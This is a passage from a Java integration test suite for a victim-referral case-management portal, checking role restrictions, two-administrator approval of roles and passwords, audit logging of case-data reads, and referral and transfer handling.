                        PASSWORD)));
    assertEquals("admin.error.roleNotForType", coordinatorInPolice.messageKey());
    assertEquals(
        "admin.error.roleNotForType",
        org.junit.jupiter.api.Assertions.assertThrows(
                rs.astra.nrm.shared.InvalidRequestException.class,
                () ->
                    administration.createUser(
                        admin,
                        new AdministrationService.NewUserForm(
                            "rp.fakeadmin",
                            "Lažni administrator",
                            null,
                            csw,
                            PortalRole.ADMIN,
                            PASSWORD)))
            .messageKey());
    assertTrue(
        directory.findUser("rp.fakecoordinator").isEmpty()
            && directory.findUser("rp.fakeadmin").isEmpty(),
        "nobody was created");
    PortalUser officer = directory.findUser("rp.police").orElseThrow();
    assertEquals(
        "admin.error.roleNotForType",
        org.junit.jupiter.api.Assertions.assertThrows(
                rs.astra.nrm.shared.InvalidRequestException.class,
                () ->
                    administration.changeRole(
                        admin, officer.getId(), officer.getVersion(), PortalRole.NGO_COORDINATOR))
            .messageKey());
    assertEquals(PortalRole.POLICE_OFFICER, viewer("rp.police").role(), "her role is unchanged");
    // A kind that its users' roles do not fit.
    Organisation policeUnit = em.find(Organisation.class, police);
    assertEquals(
        "admin.error.typeNotForRoles",
        org.junit.jupiter.api.Assertions.assertThrows(
                rs.astra.nrm.shared.InvalidRequestException.class,
                () ->
                    administration.changeOrganisation(
                        admin,
                        police,
                        policeUnit.getVersion(),
                        policeUnit.getName(),
                        OrganisationType.NGO))
            .messageKey());
    // Nobody changes her own account.
    PortalUser self = directory.findUser("admin").orElseThrow();
    assertEquals(
        "admin.error.self",
        org.junit.jupiter.api.Assertions.assertThrows(
                rs.astra.nrm.shared.InvalidRequestException.class,
                () ->
                    administration.changeRole(
                        admin, self.getId(), self.getVersion(), PortalRole.NGO_COORDINATOR))
            .messageKey());
    // Single sign-on: a token that gives a police unit an NGO role authorises nothing.
    assertTrue(
        directory
            .synchroniseFromToken(
                "rp.tokencoordinator",
                "Token",
                null,
                "RP Police",
                EnumSet.of(PortalRole.NGO_COORDINATOR))
            .isEmpty());
    assertTrue(directory.findUser("rp.tokencoordinator").isEmpty(), "and creates nobody");
  }

  @Test
  void aRoleThatReadsCaseDataWaitsForASecondAdministratorAndTheDataProtectionOfficerSeesIt()
      throws Exception {
    fixture();
    Viewer admin = viewer("admin");
    Viewer admin2 = viewer("admin2");
    long ngo =
        administration.createOrganisation(
            admin, "RP Four Eyes NGO", OrganisationType.NGO, "Sombor");
    createApproved(
        new AdministrationService.NewUserForm(
            "rp.foureyes.dpo", "Tester rp.foureyes.dpo", null, ngo, PortalRole.DPO, PASSWORD));
    // A hotline operator reads no case data: she signs in at once.
    administration.createUser(
        admin,
        new AdministrationService.NewUserForm(
            "rp.foureyes.hotline",
            "Tester hotline",
            null,
            ngo,
            PortalRole.HOTLINE_OPERATOR,
            PASSWORD));
    assertTrue(
        directory.viewerFor("rp.foureyes.hotline").isPresent(), "no approval for the hotline");

    // One administrator alone: the caseworker exists, but reads no case and cannot sign in.
    long worker =
        administration.createUser(
            admin,
            new AdministrationService.NewUserForm(
                "rp.foureyes",
                "Tester rp.foureyes",
                null,
                ngo,
                PortalRole.NGO_CASEWORKER,
                PASSWORD));
    assertTrue(
        directory.viewerFor("rp.foureyes").isEmpty(),
        "no viewer, so no case, with her role before the approval");
    assertFalse(
        new PortalSession(root()).signIn("rp.foureyes", PASSWORD).contains("id=\"currentUser\""),
        "she cannot sign in");
    assertEquals(
        "admin.error.awaitingApproval",
        assertThrows(
                InvalidRequestException.class,
                () ->
                    administration.reactivateUser(
                        admin,
                        worker,
                        directory.findUser("rp.foureyes").orElseThrow().getVersion()))
            .messageKey(),
        "nobody reactivates her around the approval");
    RoleGrantRow asked = pendingFor(admin, worker);
    assertTrue(
        asked.yours() && !asked.decidable(), "her own request is hers to withdraw, not to approve");
    assertEquals(
        "admin.error.ownRequest",
        assertThrows(
                InvalidRequestException.class,
                () -> grants.approve(admin, asked.id(), asked.version()))
            .messageKey());
    assertEquals(
        "admin.error.ownRequest",
        assertThrows(
                InvalidRequestException.class,
                () -> grants.reject(admin, asked.id(), asked.version()))
            .messageKey());
    assertTrue(pendingFor(admin2, worker).decidable());

    // The requester's page shows it waiting, with no approve button for her.
    PortalSession requester = signedIn("admin", "demo");
    String mine = grantRow(requester.get("app/admin/users.xhtml").body(), "rp.foureyes");
    assertTrue(mine.contains("cancelGrant") && !mine.contains("approveGrant"), mine);

    // The organisation's data protection officer sees it on her home page; ASTRA's does not.
    String dpoRow = grantRow(signedIn("rp.foureyes.dpo", PASSWORD).lastPage(), "rp.foureyes");
    assertTrue(dpoRow.contains("grant-requester\">admin<"), dpoRow);
    assertTrue(
        dpoRow.contains("waiting for approval") || dpoRow.contains("čeka odobrenje"), dpoRow);
    String today =
        java.time.format.DateTimeFormatter.ofPattern("dd.MM.yyyy")
            .format(rs.astra.nrm.shared.NrmTime.today());
    assertTrue(dpoRow.contains(today), "dated in Europe/Belgrade: " + dpoRow);
    assertFalse(
        signedIn("dpo", "demo").lastPage().contains("grant-user\">rp.foureyes<"),
        "another organisation's officer is not told");

    // The second administrator approves on the users page: now she signs in and reads cases.
    PortalSession second = signedIn("admin2", "demo");
    String page = second.get("app/admin/users.xhtml").body();
    int row = page.indexOf("grant-user\">rp.foureyes<");
    Matcher approve =
        Pattern.compile("id=\"(userAdminForm:grants:\\d+:approveGrant)\"").matcher(page);
    assertTrue(row > 0 && approve.find(row), "the second administrator may approve it");
    String approved = second.submitForPage("userAdminForm", approve.group(1), Map.of());
    assertTrue(
        approved.contains("Zahtev je odobren") || approved.contains("The request was approved"),
        "she is told");
    assertEquals(PortalRole.NGO_CASEWORKER, viewer("rp.foureyes").role());
    assertTrue(
        signedIn("rp.foureyes", PASSWORD).lastPage().contains("RP Four Eyes NGO"), "she signs in");
    assertEquals(
        0,
        cases.count(viewer("rp.foureyes"), CaseListQuery.firstPage(20)),
        "and reads her organisation's cases (none yet)");

    // Another role: she keeps hers until the decision, and a rejection leaves it.
    long version = directory.findUser("rp.foureyes").orElseThrow().getVersion();
    assertEquals(
        AdministrationService.Outcome.AWAITING_APPROVAL,
        administration.changeRole(admin, worker, version, PortalRole.NGO_COORDINATOR));
    assertEquals(PortalRole.NGO_CASEWORKER, viewer("rp.foureyes").role());
    RoleGrantRow change = pendingFor(admin2, worker);
    grants.reject(admin2, change.id(), change.version());
    assertEquals(
        PortalRole.NGO_CASEWORKER, viewer("rp.foureyes").role(), "a rejection changes nothing");
    assertEquals(
        "admin.error.grantDecided",
        assertThrows(
                InvalidRequestException.class,
                () -> grants.approve(admin2, change.id(), change.version()))
            .messageKey());
    String rejectedRow = grantRow(signedIn("rp.foureyes.dpo", PASSWORD).lastPage(), "rp.foureyes");
    assertTrue(
        rejectedRow.contains("rejected") || rejectedRow.contains("odbijeno"),
        "newest first: " + rejectedRow);

    // The user concerned decides nothing about herself, even as an administrator.
    long third =
        createApproved(
            new AdministrationService.NewUserForm(
                "rp.foureyes.admin", "Tester admin", null, ngo, PortalRole.ADMIN, PASSWORD));
    administration.changeRole(
        admin,
        third,
        directory.findUser("rp.foureyes.admin").orElseThrow().getVersion(),
        PortalRole.DPO);
    RoleGrantRow demotion = pendingFor(admin2, third);
    assertEquals(
        "admin.error.grantConcernsYou",
        assertThrows(
                InvalidRequestException.class,
                () -> grants.reject(viewer("rp.foureyes.admin"), demotion.id(), demotion.version()))
            .messageKey());
    assertEquals(
        "admin.error.notYourRequest",
        assertThrows(
                InvalidRequestException.class,
                () -> grants.cancel(admin2, demotion.id(), demotion.version()))
            .messageKey());
    grants.cancel(admin, demotion.id(), demotion.version());
    assertEquals(PortalRole.ADMIN, viewer("rp.foureyes.admin").role());

    // The activity record: who asked, who decided; ids and role codes only.
    List<ActivityRecord> records =
        em.createQuery(
                "select a from ActivityRecord a where a.subjectId = :u and a.kind in :kinds order by a.id",
                ActivityRecord.class)
            .setParameter("u", worker)
            .setParameter(
                "kinds",
                List.of(
                    ActivityRecord.Kind.ROLE_GRANT_REQUESTED,
                    ActivityRecord.Kind.ROLE_GRANT_APPROVED,
                    ActivityRecord.Kind.ROLE_GRANT_REJECTED))
            .getResultList();
    assertEquals(
        List.of(
            ActivityRecord.Kind.ROLE_GRANT_REQUESTED,
            ActivityRecord.Kind.ROLE_GRANT_APPROVED,
            ActivityRecord.Kind.ROLE_GRANT_REQUESTED,
            ActivityRecord.Kind.ROLE_GRANT_REJECTED),
        records.stream().map(ActivityRecord::getKind).toList());
    assertEquals(
        List.of(admin.userId(), admin2.userId(), admin.userId(), admin2.userId()),
        records.stream().map(ActivityRecord::getUserId).toList());
    assertEquals(
        "ROLE_CHANGE ngo-caseworker -> ngo-coordinator @ " + ngo, records.get(2).getDetail());
    assertTrue(
        records.stream()
            .allMatch(a -> a.getDetail().matches("[A-Z_]+ ([a-z-]+ -> )?[a-z-]+ @ \\d+")),
        "codes only");
  }

  @Test
  void
      aNewUserWhoseApprovalWasRefusedIsAskedForAgainFromHerRowAndNobodysOwnRowOffersRefusedActions()
          throws Exception {
    fixture();
    Viewer admin = viewer("admin");
    Viewer admin2 = viewer("admin2");
    long ngo =
        administration.createOrganisation(admin, "RP Ask Again NGO", OrganisationType.NGO, "Pirot");
    long worker =
        administration.createUser(
            admin,
            new AdministrationService.NewUserForm(
                "rp.askagain", "Tester ask again", null, ngo, PortalRole.NGO_CASEWORKER, PASSWORD));
    RoleGrantRow first = pendingFor(admin2, worker);
    grants.reject(admin2, first.id(), first.version());
    assertFalse(
        new PortalSession(root()).signIn("rp.askagain", PASSWORD).contains("id=\"currentUser\""),
        "refused: she cannot sign in");

    // Her row still offers the role change, which asks again (for her role or another one).
    // The list is paged (20 a page) and other tests add users: find each row with the page's
    // filter.
    PortalSession requester = signedIn("admin", "demo");
    requester.get("app/admin/users.xhtml");
    String filtered = filteredUsers(requester, "rp.askagain");
    assertFalse(
        filtered.contains("user-name\">ngo.caseworker1<"), "the filter applied: " + filtered);
    String row = userRow(filtered, "rp.askagain");
    assertTrue(row.contains("change-role"), "asking again is offered: " + row);
    assertFalse(row.contains("reactivate-user"), "but no reactivation around the approval: " + row);
    String own = userRow(filteredUsers(requester, "admin"), "admin");
    assertFalse(
        own.contains("change-role")
            || own.contains("deactivate-user")
            || own.contains("set-password")
            || own.contains("unlock-login"),
        "her own row offers nothing the service would refuse: " + own);

    long version = directory.findUser("rp.askagain").orElseThrow().getVersion();
    assertEquals(
        AdministrationService.Outcome.AWAITING_APPROVAL,
        administration.changeRole(admin, worker, version, PortalRole.NGO_CASEWORKER));
    RoleGrantRow again = pendingFor(admin2, worker);
    grants.approve(admin2, again.id(), again.version());
    assertTrue(
        signedIn("rp.askagain", PASSWORD).lastPage().contains("RP Ask Again NGO"),
        "approved the second time, she signs in");
  }

  /** The users table filtered by a text, as the users page's Filter button sends it (Ajax). */
  private static String filteredUsers(PortalSession admin, String text) throws Exception {
    return admin.ajax(
        "userAdminForm",
        "userAdminForm:filter",
        Map.of(
            "jakarta.faces.partial.execute", "userAdminForm:filter userAdminForm:filterText",
            "jakarta.faces.partial.render", "userAdminForm:users",
            "userAdminForm:filterText", text));
  }

  /** The row of the users table that lists a login name. */
  private static String userRow(String page, String username) {
    return rowNaming(page, "user-name", username);
  }

  /** The row of a role-grant table (users page or home page) that concerns a login name. */
  private static String grantRow(String page, String username) {
    return rowNaming(page, "grant-user", username);
  }

  /** The first table row whose cell of this style class holds exactly this login name. */
  private static String rowNaming(String page, String cellClass, String username) {
    Matcher rows = Pattern.compile("<tr[^>]*>(.*?)</tr>", Pattern.DOTALL).matcher(page);
    while (rows.find()) {
      if (rows.group(1).contains(cellClass + "\">" + username + "<")) {
        return rows.group(1);
      }
    }
    throw new AssertionError(
        "no row with "
            + cellClass
            + " "
            + username
            + " in "
            + (page.length() > 3000 ? page.substring(0, 3000) : page));
  }

  @Test
  void theAdministratorReactivatesAnOrganisationAndAUserAndSetsHerANewPassword() throws Exception {
    fixture();
    Viewer admin = viewer("admin");
    long org =
        administration.createOrganisation(
            admin, "RP Returning NGO", OrganisationType.NGO, "Kraljevo");
    long returning =
        createApproved(
            new AdministrationService.NewUserForm(
                "rp.returning",
                "Povratnica",
                null,
                org,
                PortalRole.NGO_CASEWORKER,
                "first-long-password"));
    administration.deactivateUser(
        admin, returning, directory.findUser("rp.returning").orElseThrow().getVersion());
    administration.deactivateOrganisation(
        admin,
        org,
        directory.findOrganisationByName("RP Returning NGO").orElseThrow().getVersion());

    // A user of a deactivated organisation cannot be reactivated: the organisation comes first.
    PortalSession session = signedIn("admin", "demo");
    session.get("app/admin/users.xhtml");
    session.submitForPage(
        "userAdminForm",
        "userAdminForm:filter",
        Map.of("userAdminForm:filterText", "rp.returning"));
    String refused =
        session.submitForPage(
            "userAdminForm",
            "userAdminForm:users:0:reactivateUser",
            Map.of("userAdminForm:filterText", "rp.returning"));
    assertTrue(
        refused.contains("prvo ponovo aktivirajte organizaciju")
            || refused.contains("reactivate the organisation first"),
        "a clear message: " + (refused.length() > 3000 ? refused.substring(0, 3000) : refused));
    assertFalse(directory.findUser("rp.returning").orElseThrow().isActive(), "and nothing changed");

    session.get("app/admin/organisations.xhtml");
    String organisations = session.lastPage();
    int row = organisations.indexOf("RP Returning NGO");
    Matcher button =
        Pattern.compile("id=\"(orgForm:organisations:\\d+:reactivateOrganisation)\"")
            .matcher(organisations);
    assertTrue(row > 0 && button.find(row), "a deactivated organisation offers reactivation");
    String reactivated = session.submitForPage("orgForm", button.group(1), Map.of());
    assertTrue(
        reactivated.contains("Organizacija je ponovo aktivirana")
            || reactivated.contains("The organisation was reactivated"),
        "the administrator is told");
    assertTrue(directory.findOrganisationByName("RP Returning NGO").orElseThrow().isActive());
    assertTrue(directory.viewerFor("rp.returning").isEmpty(), "her own deactivation still holds");

    session.get("app/admin/users.xhtml");
    session.submitForPage(
        "userAdminForm",
        "userAdminForm:filter",
        Map.of("userAdminForm:filterText", "rp.returning"));
    session.submitForPage(
        "userAdminForm",
        "userAdminForm:users:0:reactivateUser",
        Map.of("userAdminForm:filterText", "rp.returning"));
    assertTrue(directory.findUser("rp.returning").orElseThrow().isActive(), "she is active again");
    assertTrue(
        signedIn("rp.returning", "first-long-password").lastPage().contains("RP Returning NGO"),
        "and signs in with her password as it was");

    // A new password: too short is refused with the rule; then the old one no longer works.
    session.submitForPage(
        "userAdminForm",
        "userAdminForm:filter",
        Map.of("userAdminForm:filterText", "rp.returning"));
    String panel =
        session.submitForPage(
            "userAdminForm",
            "userAdminForm:users:0:setPassword",
            Map.of("userAdminForm:filterText", "rp.returning"));
    assertTrue(
        panel.contains("userAdminForm:newPassword") && panel.contains("rp.returning"),
        "the panel names the user");
    String tooShort =
        session.submitForPage(
            "userAdminForm",
            "userAdminForm:savePassword",
            Map.of("userAdminForm:newPassword", "short"));
    assertTrue(tooShort.contains("10"), "the rule is explained");
    assertTrue(
        signedIn("rp.returning", "first-long-password").lastPage().contains("id=\"currentUser\""),
        "nothing changed");
    session.submitForPage(
        "userAdminForm",
        "userAdminForm:filter",
        Map.of("userAdminForm:filterText", "rp.returning"));
    session.submitForPage(
        "userAdminForm",
        "userAdminForm:users:0:setPassword",
        Map.of("userAdminForm:filterText", "rp.returning"));
    String set =
        session.submitForPage(
            "userAdminForm",
            "userAdminForm:savePassword",
            Map.of("userAdminForm:newPassword", "second-long-password"));
    // A caseworker's password waits for a second administrator: else one administrator could sign
    // in as her.
    assertTrue(
        set.contains("Nova lozinka čeka odobrenje")
            || set.contains("The new password waits for a second administrator"),
        "the administrator is told");
    assertFalse(set.contains("second-long-password"), "the password is never shown back");
    assertTrue(
        signedIn("rp.returning", "first-long-password").lastPage().contains("id=\"currentUser\""),
        "the old password holds until the approval");
    String pendingHash =
        (String)
            em.createNativeQuery(
                    "select password_hash from role_grant where user_id = ?1 and status = 'PENDING'")
                .setParameter(1, returning)
                .getSingleResult();
    assertTrue(pendingHash.startsWith("PBKDF2WithHmacSHA256:"), "only the hash waits");
    approvePending(returning);
    assertEquals(
        0L,
        ((Number)
                em.createNativeQuery(
                        "select count(*) from role_grant where user_id = ?1 and password_hash is not null")
                    .setParameter(1, returning)
                    .getSingleResult())
            .longValue(),
        "a decided request keeps no hash");
    assertFalse(
        new PortalSession(root())
            .signIn("rp.returning", "first-long-password")
            .contains("id=\"currentUser\""),
        "the old password no longer works");
    assertTrue(
        signedIn("rp.returning", "second-long-password").lastPage().contains("id=\"currentUser\""),
        "the new one does");
    String stored =
        (String)
            em.createNativeQuery(
                    "select password_hash from portal_user where username = 'rp.returning'")
                .getSingleResult();
    assertTrue(
        stored.startsWith(
            "PBKDF2WithHmacSHA256:" + AdministrationService.PASSWORD_HASH_ITERATIONS + ":"),
        "hashed with the iterations OWASP asks for, not Jakarta Security's 2,048");

    List<ActivityRecord.Kind> kinds =
        em
            .createQuery(
                "select a from ActivityRecord a where a.userId = :u and ((a.subjectId = :org and a.kind = :orgKind) or (a.subjectId = :user and a.kind in :userKinds))"
                    + " order by a.id",
                ActivityRecord.class)
            .setParameter("u", admin.userId())
            .setParameter("org", org)
            .setParameter("orgKind", ActivityRecord.Kind.ORGANISATION_REACTIVATED)
            .setParameter("user", returning)
            .setParameter(
                "userKinds",
                List.of(
                    ActivityRecord.Kind.USER_REACTIVATED, ActivityRecord.Kind.ROLE_GRANT_REQUESTED))
            .getResultList()
            .stream()
            .map(ActivityRecord::getKind)
            .toList();
    assertEquals(
        List.of(
            ActivityRecord.Kind.ROLE_GRANT_REQUESTED,
            ActivityRecord.Kind.ORGANISATION_REACTIVATED,
            ActivityRecord.Kind.USER_REACTIVATED,
            ActivityRecord.Kind.ROLE_GRANT_REQUESTED),
        kinds,
        "her role when she was created, then her password, each asked for");
    assertThrows(
        NotPermittedException.class,
        () ->
            administration.setPassword(
                viewer("rp.coordinator"), returning, 0, "someone-elses-password"));
    assertEquals(
        "admin.error.self",
        assertThrows(
                InvalidRequestException.class,
                () -> administration.setPassword(admin, admin.userId(), 0, "a-long-new-password"))
            .messageKey());
  }

  @Test
  void aCentreRejectsAReferralFromTheCasePageWithTheReasonItTyped() throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Rejectedonpage", LocalDate.of(1988, 5, 6));
    long referral = referToTheCentre(owner, caseId);

    PortalSession csw = signedIn("rp.csw", PASSWORD);
    String page = csw.get("app/case.xhtml?id=" + caseId).body();
    Matcher reject =
        Pattern.compile("id=\"([^\"]+)\"[^>]*class=\"[^\"]*reject-referral").matcher(page);
    assertTrue(reject.find(), "the centre may reject the referral it received");
    csw.submitForPage("caseForm", reject.group(1), Map.of());
    // As a browser sends the form: the reason typed in the reject dialog, and the revoke dialog's
    // empty field.
    String answered =
        csw.submitForPage(
            "caseForm",
            "caseForm:confirmReject",
            Map.of(
                "caseForm:rejectReason", "Nije u našoj nadležnosti", "caseForm:revokeReason", ""));
    assertTrue(
        answered.contains("Upućivanje je odbijeno")
            || answered.contains("The referral was rejected"),
        answered.length() > 3000 ? answered.substring(0, 3000) : answered);
    rs.astra.nrm.referral.Referral stored = em.find(rs.astra.nrm.referral.Referral.class, referral);
    assertEquals(rs.astra.nrm.referral.ReferralState.REJECTED, stored.getState());
    assertEquals("Nije u našoj nadležnosti", stored.getRejectionReason());
  }

  @Test
  void theOwnerProposesATransferOnTheCasePageAndTheCentreDeclinesItFromItsHomePage()
      throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Transferonpage", LocalDate.now().minusYears(14));
    long centre = ORGANISATIONS.get("RP Social Work Centre");

    PortalSession coordinator = signedIn("rp.coordinator", PASSWORD);
    String page = coordinator.get("app/case.xhtml?id=" + caseId).body();
    assertTrue(page.contains("transferForm:proposeTransfer"), "the owner is offered a transfer");
    String proposed =
        coordinator.submitForPage(
            "transferForm",
            "transferForm:proposeTransfer",
            Map.of(
                "transferForm:transferTo_input", String.valueOf(centre),
                "transferForm:transferBasis", "LEGAL",
                "transferForm:transferReason", "Dete: nadležan je organ starateljstva"));
    assertTrue(
        proposed.contains("Prenos je predložen") || proposed.contains("The transfer was proposed"),
        proposed.length() > 3000 ? proposed.substring(0, 3000) : proposed);
    assertTrue(proposed.contains("transfer-withdraw"), "the open proposal can be withdrawn");

    PortalSession csw = signedIn("rp.csw", PASSWORD);
    String home = csw.get("app/home.xhtml").body();
    assertTrue(home.contains("incomingTransfersTable"), "the centre's home page lists it");
    assertFalse(home.contains("Transferonpage"), "and names no one");
    Matcher decline =
        Pattern.compile("id=\"([^\"]+)\"[^>]*class=\"[^\"]*transfer-decline").matcher(home);
    assertTrue(decline.find(), "the centre may decline it");
    csw.submitForPage("incomingTransfersForm", decline.group(1), Map.of());
    String declined =
        csw.submitForPage(
            "incomingTransfersForm",
            "incomingTransfersForm:confirmDeclineTransfer",
            Map.of("incomingTransfersForm:declineTransferReason", "Dete živi u drugoj opštini"));
    assertEquals(
        rs.astra.nrm.transfer.TransferState.DECLINED,
        em.createQuery(
                "select t.state from CaseTransfer t where t.caseFile.id = :c",
                rs.astra.nrm.transfer.TransferState.class)
            .setParameter("c", caseId)
            .getSingleResult());
    int messages = declined.indexOf("transferMessages");
    assertTrue(
        declined.contains("Prenos je odbijen") || declined.contains("The transfer was declined"),
        messages < 0 ? "no transferMessages on the page" : declined.substring(messages));
    assertEquals(
        OWNER_NGO,
        cases.find(owner, caseId).orElseThrow().ownerOrganisation(),
        "a declined transfer keeps the owner");
  }

  @Test
  void withdrawingTheConsentOnTheCasePageShowsTheTransferProposalItClosedAsWithdrawn()
      throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Transferconsent", LocalDate.now().minusYears(30));
    long centre = ORGANISATIONS.get("RP Social Work Centre");
    consents.give(
        owner, signedToday(caseId, centre, Purpose.SOCIAL_PROTECTION, DataCategory.SOCIAL));
    PortalSession coordinator = signedIn("rp.coordinator", PASSWORD);
    coordinator.get("app/case.xhtml?id=" + caseId);
    String proposed =
        coordinator.submitForPage(
            "transferForm",
            "transferForm:proposeTransfer",
            Map.of(
                "transferForm:transferTo_input", String.valueOf(centre),
                "transferForm:transferBasis", "CONSENT",
                "transferForm:transferReason", "Seli se u grad centra"));
    assertTrue(proposed.contains("transfer-withdraw"), "the proposal is open");
    Matcher withdraw =
        Pattern.compile("id=\"([^\"]+)\"[^>]*class=\"[^\"]*withdraw-consent").matcher(proposed);
    assertTrue(withdraw.find(), "the consent can be withdrawn");
    String after = coordinator.submitForPage("caseForm", withdraw.group(1), Map.of());
    assertTrue(
        after.contains("Povučen je i predlog prenosa slučaja organizaciji RP Social Work Centre")
            || after.contains("The proposal to transfer the case to RP Social Work Centre"),
        "the message says the proposal went with the consent");
    assertFalse(after.contains("transfer-withdraw"), "no Withdraw on a closed proposal");
    assertTrue(after.contains("transferForm:proposeTransfer"), "a new proposal may be made");
  }

  @Inject rs.astra.nrm.support.ServiceEntryService serviceEntries;

  @Inject rs.astra.nrm.organisation.ActiveOrganisationChoices organisationChoices;

  /** A consent on a signed form, given today (Europe/Belgrade) with no end, for one category. */
  private static ConsentService.NewConsentForm signedToday(
      long caseId, long organisationId, Purpose purpose, DataCategory category) {
    return new ConsentService.NewConsentForm(
        caseId,
        organisationId,
        purpose,
        EnumSet.of(category),
        LocalDate.now(java.time.ZoneId.of("Europe/Belgrade")),
        null,
        ConsentMethod.SIGNED_FORM,
        null);
  }

  /** Whether the menus offer an organisation of this name now. */
  private boolean offered(String name) {
    return organisationChoices.list().stream().anyMatch(o -> o.name().equals(name));
  }

  /** The value of a text input of the last page, as a browser would send it back. */
  private static String inputValue(String page, String clientId) {
    Matcher input =
        Pattern.compile("<input[^>]*id=\"" + Pattern.quote(clientId) + "\"[^>]*>").matcher(page);
    assertTrue(input.find(), "the page has the input " + clientId);
    Matcher value = Pattern.compile("value=\"([^\"]*)\"").matcher(input.group());
    return value.find() ? value.group(1) : "";
  }

  @Test
  void aCorrectionOfTheEmployerIsWhatTheRecruitmentFormThenOffersAndKeeps() throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Employercorrected", LocalDate.of(1990, 4, 5));
    PortalSession coordinator = signedIn("rp.coordinator", PASSWORD);
    String page = coordinator.get("app/case.xhtml?id=" + caseId).body();
    assertEquals("", inputValue(page, "caseForm:employerName"), "no employer yet");
    Map<String, String> correction = new java.util.LinkedHashMap<>();
    correction.put("caseForm:correctionField_input", "EMPLOYER_NAME");
    correction.put("caseForm:correctionValue", "Gradnja Plus d.o.o.");
    correction.put("caseForm:correctionReason", "Rečeno pri razgovoru");
    String corrected = coordinator.submitForPage("caseForm", "caseForm:correct", correction);
    assertTrue(
        corrected.contains("Ispravka je sačuvana")
            || corrected.contains("The correction was saved"),
        "the correction is saved");
    // The recruitment form on the same page offers the corrected employer, not the one from before.
    assertEquals("Gradnja Plus d.o.o.", inputValue(corrected, "caseForm:employerName"));
    // As a browser sends the recruitment form: the recruiter typed, the employer as shown.
    coordinator.submitForPage(
        "caseForm",
        "caseForm:saveRecruitment",
        Map.of(
            "caseForm:recruiterName",
            "Neki Vrbovalac",
            "caseForm:employerName",
            inputValue(corrected, "caseForm:employerName")));
    rs.astra.nrm.casefile.CaseFile stored = em.find(rs.astra.nrm.casefile.CaseFile.class, caseId);
    assertEquals("Gradnja Plus d.o.o.", stored.getEmployerName(), "the correction stands");
    assertEquals("Neki Vrbovalac", stored.getRecruiterName());
  }

  @Test
  void aCasePageOpenedByItsLinkRecordsItsSectionsReadsWithItsOwnOnceEach() throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Onerecord", LocalDate.of(1985, 5, 6));
    long before = lastAuditRecordId();
    String page = signedIn("rp.coordinator", PASSWORD).get("app/case.xhtml?id=" + caseId).body();
    assertTrue(page.contains(":proceedingsSection\""), "the proceedings are shown");
    assertTrue(page.contains(":supportSection\""), "the support plan is shown");
    @SuppressWarnings("unchecked")
    List<Object[]> rows =
        em.createNativeQuery(
                "select category, occurred_at, request_id from audit_record where id > ?1"
                    + " and case_file_id = ?2 and username = 'rp.coordinator' order by id")
            .setParameter(1, before)
            .setParameter(2, caseId)
            .getResultList();
    java.util.Set<String> requests = new java.util.HashSet<>();
    java.util.Set<Object> times = new java.util.HashSet<>();
    List<String> categories = new java.util.ArrayList<>();
    for (Object[] r : rows) {
      categories.add((String) r[0]);
      times.add(r[1]);
      requests.add((String) r[2]);
    }
    // What the owner may read of her case: every personal category the page or a section shows.
    java.util.Set<String> shown = new java.util.TreeSet<>();
    cases.find(owner, caseId).orElseThrow().visible().keySet().forEach(c -> shown.add(c.name()));
    shown.retainAll(
        Set.of("IDENTITY", "CONTACT", "EXPLOITATION", "SOCIAL", "HEALTH", "LEGAL_PROCEEDINGS"));
    assertEquals(1, requests.size(), "one page view: " + rows.size() + " records");
    assertEquals(
        shown,
        new java.util.TreeSet<>(categories),
        "the page's categories and its sections': proceedings, SOCIAL and HEALTH");
    assertEquals(categories.size(), shown.size(), "each once: " + categories);
    assertEquals(
        1, times.size(), "written together by the page, before its sections rendered: " + times);
  }

  @Test
  void aPostThatChangesNothingShowsTheCaseAsThePolicyDecidesNowNotAsTheViewKeptIt()
      throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Postedagain", LocalDate.of(1986, 7, 8));
    String code = em.find(rs.astra.nrm.casefile.CaseFile.class, caseId).getCode();
    long referral = referToTheCentre(owner, caseId);
    PortalSession csw = signedIn("rp.csw", PASSWORD);
    assertTrue(
        csw.get("app/case.xhtml?id=" + caseId).body().contains(code), "the centre sees the case");
    referrals.revoke(
        owner,
        referral,
        em.find(rs.astra.nrm.referral.Referral.class, referral).getVersion(),
        "Kraj testa");
    // A post from the page she still has open that changes nothing (the header's language link).
    String after = csw.submitForPage("userForm", "userForm:langEn", Map.of());
    assertFalse(
        after.contains(code) || after.contains("caseForm"),
        "after the revocation her next click shows nothing of the case");

    // The owner's post that changes nothing shows her case again: its reads are recorded again.
    PortalSession coordinator = signedIn("rp.coordinator", PASSWORD);
    coordinator.get("app/case.xhtml?id=" + caseId);
    long before = lastAuditRecordId();
    String again = coordinator.submitForPage("userForm", "userForm:langEn", Map.of());
    assertTrue(again.contains("Postedagain"), "the page shows the person again");
    assertTrue(
        ((Number)
                    em.createNativeQuery(
                            "select count(*) from audit_record where id > ?1 and case_file_id = ?2"
                                + " and category = 'IDENTITY' and username = 'rp.coordinator'")
                        .setParameter(1, before)
                        .setParameter(2, caseId)
                        .getSingleResult())
                .longValue()
            >= 1,
        "the identity shown again is recorded again");
  }

  @Test
  void aCentreAcceptsAReferralOnTheCasePageAndItsLineShowsItAccepted() throws Exception {
    fixture();
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Acceptedonpage", LocalDate.of(1987, 3, 4));
    long referral = referToTheCentre(owner, caseId);
    PortalSession csw = signedIn("rp.csw", PASSWORD);
    String page = csw.get("app/case.xhtml?id=" + caseId).body();
    Matcher accept =
        Pattern.compile("id=\"([^\"]+)\"[^>]*class=\"[^\"]*accept-referral").matcher(page);
    assertTrue(accept.find(), "the centre may accept the referral it received");
    String answered = csw.submitForPage("caseForm", accept.group(1), Map.of());
    assertTrue(
        answered.contains("Upućivanje je prihvaćeno")
            || answered.contains("The referral was accepted"),
        "the acceptance is confirmed");
    assertEquals(
        rs.astra.nrm.referral.ReferralState.ACCEPTED,
        em.find(rs.astra.nrm.referral.Referral.class, referral).getState());
    assertFalse(
        answered.contains("accept-referral") || answered.contains("reject-referral"),
        "the line shows the referral accepted, with no Accept or Reject left");
    // The centre's case list and exports of the other tests stay as they were.
    referrals.revoke(
        owner,
        referral,
